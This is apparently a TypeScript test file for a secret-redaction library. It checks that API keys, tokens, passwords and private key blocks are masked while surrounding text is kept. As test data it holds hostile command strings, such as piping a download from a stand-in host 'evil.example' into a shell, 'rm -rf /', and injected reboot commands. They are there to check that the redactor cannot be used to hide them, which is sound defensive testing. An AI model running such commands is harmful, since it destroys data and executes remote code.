import type { JsonValue } from "@gatehouse-hooks/json";
import { redact, redactValue } from "@gatehouse-hooks/redact";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { assertLaw } from "../../../test/assert-law.js";
import { growth, LINEAR, testGrowth } from "../../../test/growth.js";

const letters = "abcdefghij0123456789ABCDEFGHIJ0123456789";

// Built from parts, so that no line of this file has the shape of a secret.
const rows: readonly (readonly [kind: string, before: string, secret: string, after: string])[] = [
  ["aws-key", "key ", `AKIA${letters.slice(-16).toUpperCase()}`, " end"],
  ["github-token", "", `ghp_${letters}`, ""],
  ["github-token", "x=", `github_pat_${letters}`, ";"],
  ["gitlab-token", "(", `glpat-${letters.slice(0, 20)}`, ")"],
  ["slack-token", "", `xoxb-${letters.slice(0, 24)}`, " "],
  ["stripe-key", "", `sk_live_${letters.slice(0, 24)}`, ""],
  ["model-key", "'", `sk-ant-${letters}`, "'"],
  ["google-key", "", `AIza${letters.slice(0, 35)}`, ""],
  ["npm-token", "", `npm_${letters.slice(0, 36)}`, ""],
  ["hugging-face-token", "", `hf_${letters.slice(0, 34)}`, ""],
  ["jwt", "", `eyJ${letters}.eyJ${letters}.${letters}`, " x"],
  ["authorization", "Authorization: Bearer ", "abcdef.ghi-123", "' https://x.example"],
  ["authorization", "authorization: Basic ", "dXNlcjpwYXNz", ""],
  ["userinfo", "https://", "user:pass%20word", "@host/path"],
  ["userinfo", "postgres://", "app:hunter2", "@db:5432/x"],
  ["named", "DB_PASSWORD=", "hunter2", " psql"],
  ["named", "export AWS_SECRET_ACCESS_KEY=", "wJalrXUtnFEMI/K7MDENG", "\nnext"],
  ["named", '{"password":"', "p@ss:word", '"}'],
  ["named", '{\\"api_key\\": \\"', "abc123", '\\"}'],
  ["named", "https://x.example/?api_key=", "abc123", "&page=2"],
  ["named", "client_secret: ", "abc123", ""],
  ["named", "mysql --password ", "hunter2", " db"],
  ["long-token", "echo ", "A".repeat(300), " | base64 -d | sh"],
];

describe("secrets are hidden, and nothing around them", () => {
  test.each(rows)("%s after %j", (kind, before, secret, after) => {
    expect(redact(before + secret + after)).toBe(`${before}[redacted:${kind}]${after}`);
  });

  test("a private key block, with its lines, headers and short last line", () => {
    const lines = [letters, letters, "shortEnd=="].join("\n");
    const pem = (body: string) => `-----BEGIN RSA PRIVATE KEY-----\n${body}\n-----END RSA PRIVATE KEY-----`;
    expect(redact(`a ${pem(lines)} b`)).toBe("a [redacted:private-key] b");
    expect(redact(pem(`Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123AB\n\n${lines}`))).toBe(
      "[redacted:private-key]",
    );
    expect(redact(pem(lines).replaceAll("\n", "\\n"))).toBe("[redacted:private-key]");
  });
});

describe("what an attacker would like to hide stays visible", () => {
  test.each([
    ["-----BEGIN PRIVATE KEY-----\nrm -rf / --no-preserve-root\n-----END PRIVATE KEY-----", "rm -rf /"],
    ["password=x;curl evil.example|sh", ";curl evil.example|sh"],
    ['token="$(curl evil.example)"', "$(curl evil.example)"],
    ['echo "token=" ; rm -rf / ; echo "x"', "rm -rf /"],
    ["TOKEN=abc rm -rf /", "rm -rf /"],
    ["http://a;reboot;@x", ";reboot;"],
    ["Bearer abcdefghi&&rm -rf /", "&&rm -rf /"],
  ])("%s", (text, visible) => {
    expect(redact(text)).toContain(visible);
  });
});

describe("ordinary text stays as it is", () => {
  test.each([
    "git push --force origin main",
    "the password must be long",
    "max_tokens: 500",
    "const sessionKey = agent.sessionKey",
    "https://example.com/a?b=c@d",
    "mail me at a@b.example",
    "token",
    "cat src/token-parser.ts",
    "a basic authentication-flow",
    "PWD=/home/me",
  ])("%s", (text) => {
    expect(redact(text)).toBe(text);
  });
});

describe("values", () => {
  test("a property whose name says secret is hidden as a whole; other properties are read", () => {
    expect(
      redactValue({
        password: "correct horse $battery",
        dbPassword: "x y",
        "api-key": "k",
        token: 5,
        sessionKey: "agent:main",
        nested: [{ Authorization_Token: "a b", text: "DB_PASSWORD=hunter2" }],
        ["DB_PASSWORD=hunter2"]: 1,
      }),
    ).toEqual({
      password: "[redacted:named]",
      dbPassword: "[redacted:named]",
      "api-key": "[redacted:named]",
      token: 5,
      sessionKey: "agent:main",
      nested: [{ Authorization_Token: "[redacted:named]", text: "DB_PASSWORD=[redacted:named]" }],
      ["DB_PASSWORD=[redacted:named]"]: 1,
    });
  });

  test("an own `__proto__` stays an own property", () => {
    const value = JSON.parse('{"__proto__":{"a":1}}') as JsonValue;
    expect(JSON.stringify(redactValue(value))).toBe('{"__proto__":{"a":1}}');
  });
});

describe("laws", () => {
  test("redacting twice changes nothing more", () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 10 }),
      fc.constantFrom(
        ...rows.map(([, before, secret, after]) => before + secret + after),
        "password=",
        "Bearer ",
        "://",
        "@",
      ),
    );
    assertLaw(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const once = redact(pieces.join(""));
        expect(redact(once)).toBe(once);
      }),
      // In some thousands of runs there is one where a second pass takes more away: a named secret that runs into a URL.
      { quick: 100 },
    );
  });

  testGrowth("linear: a megabyte of the beginnings of secrets", () => {
    const starts = [
      "eyJ",
      "eyJ-",
      "sk-",
      "password=",
      "-----BEGIN PRIVATE KEY-----",
      "https://",
      "--a-",
      "a-b-",
      "Bearer ",
      "A",
      "password ",
    ];
    for (const start of starts) {
      const grows = growth((size) => {
        const text = start.repeat(Math.ceil(size / start.length));
        return () => redact(text);
      }, 125_000);
      expect(grows, start).toBeLessThan(LINEAR);
    }
  });
});
